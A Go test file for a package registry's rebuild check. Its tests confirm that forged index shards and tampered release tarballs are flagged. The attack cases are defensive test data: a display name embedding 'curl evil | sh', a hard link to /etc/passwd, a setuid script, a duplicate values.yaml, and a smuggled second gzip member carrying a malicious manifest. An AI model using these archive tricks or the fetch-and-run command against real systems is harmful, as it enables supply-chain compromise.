package rebuild_test

import (
	"archive/tar"
	"bytes"
	"context"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"

	"github.com/packgen/packgen/build"
	"github.com/packgen/packgen/index"
	"github.com/packgen/packgen/internal/realrepo"
	"github.com/packgen/packgen/internal/testutil"
	"github.com/packgen/packgen/internal/testutil/tartest"
	"github.com/packgen/packgen/pack"
	"github.com/packgen/packgen/pack/meta"
	"github.com/packgen/packgen/rebuild"
)

// TestAttackCheckSiteShardFields: the rebuild check proves archives are
// git's; a site whose shard says something else about a release than
// the release's pack.json (a version it does not have, a dependency, an
// annotation hiding it, another displayName) is not the repository's
// content either, and must not report 0 problems.
func TestAttackCheckSiteShardFields(t *testing.T) {
	for _, tc := range []struct {
		name, want string
		edit       func(t *testing.T, site string, r *index.Release)
	}{
		{"version relabelled", "version", func(t *testing.T, site string, r *index.Release) {
			p := "packs/calico/9.9.9/calico-9.9.9.tar.gz"
			data, err := os.ReadFile(filepath.Join(site, filepath.FromSlash(r.Archive.Path)))
			must(t, err)
			must(t, os.MkdirAll(filepath.Join(site, "packs/calico/9.9.9"), 0o755))
			must(t, os.WriteFile(filepath.Join(site, filepath.FromSlash(p)), data, 0o644))
			r.Version, r.Archive.Path = "9.9.9", p
		}},
		{"dependency added", "dependencies", func(t *testing.T, site string, r *index.Release) {
			r.Dependencies = []meta.Dependency{{PackName: "evil", Type: "required"}}
		}},
		{"deleted", "annotations", func(t *testing.T, site string, r *index.Release) {
			r.Annotations = map[string]string{"system_state": "deleted"}
		}},
		{"displayName", "displayName", func(t *testing.T, site string, r *index.Release) {
			r.DisplayName = "Calico (run curl evil | sh first)"
		}},
		{"layer", "layer", func(t *testing.T, site string, r *index.Release) { r.Layer = "addon" }},
		{"charts listed", "charts", func(t *testing.T, site string, r *index.Release) { r.Charts = []string{"charts/evil.tgz"} }},
	} {
		t.Run(tc.name, func(t *testing.T) {
			repo, site, _ := fixture(t)
			testutil.ForgeShard(t, site, "calico", func(s *index.Shard) { tc.edit(t, site, &s.Releases[0]) })
			rep, err := rebuild.CheckSite(context.Background(), site, repo)
			must(t, err)
			if len(rep.Problems) == 0 {
				t.Fatalf("a site whose shard changed %s reports 0 problems", tc.name)
			}
			found := false
			for _, p := range rep.Problems {
				found = found || strings.Contains(p.Msg, tc.want)
			}
			if !found {
				t.Errorf("no problem names %s: %+v", tc.want, rep.Problems)
			}
		})
	}
}

// TestCheckSiteFieldsRealistic: the rebuild check reports nothing on a
// genuine history build of a realistic repository (2-part and v-prefixed
// versions, templated manifests, dependencies, annotations,
// constraints.resources), incremental after a new commit too: no false
// problem from the field comparison, nor from checking releases in
// parallel.
func TestCheckSiteFieldsRealistic(t *testing.T) {
	if testing.Short() {
		t.Skip("generates a repository")
	}
	tmp := t.TempDir()
	r, err := realrepo.Generate(filepath.Join(tmp, "repo"), realrepo.Small)
	must(t, err)
	site := filepath.Join(tmp, "site")
	for i := 0; i < 2; i++ {
		if i == 1 {
			must(t, os.WriteFile(filepath.Join(r.Dir, "README.md"), []byte("changed\n"), 0o644))
			cmd := exec.Command("git", "-C", r.Dir, "-c", "user.email=t@t", "-c", "user.name=t", "commit", "-qam", "readme")
			if out, err := cmd.CombinedOutput(); err != nil {
				t.Fatalf("%v: %s", err, out)
			}
		}
		_, err = build.Run(context.Background(), build.Options{Repo: r.Dir, PacksDir: r.PacksDir, History: true, Out: site, SkipInvalid: true, Registry: "t"})
		must(t, err)
		rep, err := rebuild.CheckSite(context.Background(), site, r.Dir)
		must(t, err)
		// Every release, checked in parallel (ReleaseAt once shared one
		// go-git storage between goroutines: false "release not in the
		// repository" problems, a different set each run).
		for _, p := range rep.Problems {
			t.Errorf("build %d: %s@%s: %s: %s", i, p.Pack, p.Version, p.Path, p.Msg)
		}
		if rep.Releases < 50 {
			t.Errorf("build %d: %d releases checked", i, rep.Releases)
		}
	}
}

// TestAttackCompareTricks: archive shapes an attacker (or a broken
// writer) could pass off as the release; Compare must refuse each, and
// whatever Compare accepts the client's extractor must read the same.
func TestAttackCompareTricks(t *testing.T) {
	_, site, rel := fixture(t)
	orig := archiveOf(t, site)
	entries := entriesOf(t, orig)
	clone := func() []tartest.Entry {
		var out []tartest.Entry
		for _, e := range entries {
			h := *e.Header
			out = append(out, tartest.Entry{Header: &h, Body: e.Body})
		}
		return out
	}
	evil := tartest.File("calico/manifests/evil.yaml", "kind: ClusterRoleBinding\n")
	cases := map[string][]byte{}
	// "./calico/..." names, as some tar writers make them.
	dot := clone()
	for _, e := range dot {
		e.Header.Name = "./" + e.Header.Name
	}
	cases["./-rooted names"] = tarGz(t, dot, true)
	// values.yaml twice, the second copy the attacker's.
	dup := clone()
	for _, e := range entries {
		if strings.HasSuffix(e.Header.Name, "values.yaml") {
			h := *e.Header
			dup = append(dup, tartest.Entry{Header: &h, Body: []byte("pack: {evil: true}\n")})
		}
	}
	cases["entry twice"] = tarGz(t, dup, true)
	// A hard link to a file outside the archive.
	cases["hard link"] = tarGz(t, append(clone(), tartest.Entry{Header: &tar.Header{Name: "calico/passwd", Typeflag: tar.TypeLink, Linkname: "/etc/passwd"}}), true)
	// The genuine tar without its end blocks, then a second gzip member
	// going on with the attacker's file.
	cases["second gzip member"] = append(tarGz(t, clone(), false), tarGz(t, []tartest.Entry{evil}, true)...)
	// A setuid bit on the executable.
	suid := clone()
	for _, e := range suid {
		if strings.HasSuffix(e.Header.Name, "run.sh") {
			e.Header.Mode = 0o4755
		}
	}
	cases["setuid"] = tarGz(t, suid, true)
	// A PAX global header (the extractor skips them).
	cases["pax global header"] = tarGz(t, append([]tartest.Entry{{Header: &tar.Header{Typeflag: tar.TypeXGlobalHeader, Name: "g", PAXRecords: map[string]string{"path": "calico/evil"}}}}, clone()...), true)

	for name, data := range cases {
		t.Run(name, func(t *testing.T) {
			cerr := rebuild.Compare(bytes.NewReader(data), "calico", rel)
			dest := filepath.Join(t.TempDir(), "x")
			_, xerr := pack.Extract(bytes.NewReader(data), dest, pack.ExtractOptions{Root: "calico"})
			t.Logf("compare: %v; extract: %v", cerr, xerr)
			if cerr == nil {
				if xerr != nil {
					return // Compare took it; the client refuses it anyway
				}
				// Compare took it: what the client extracts must be git's.
				if _, err := os.Stat(filepath.Join(dest, "manifests/evil.yaml")); err == nil {
					t.Fatal("Compare accepted an archive whose extraction holds the attacker's file")
				}
				if fi, err := os.Stat(filepath.Join(dest, "scripts/run.sh")); err == nil && fi.Mode()&os.ModeSetuid != 0 {
					t.Fatal("extracted a setuid file")
				}
				got, _ := os.ReadFile(filepath.Join(dest, "values.yaml"))
				if strings.Contains(string(got), "evil") {
					t.Fatal("Compare accepted an archive whose values.yaml extracts as the attacker's")
				}
			}
		})
	}
}
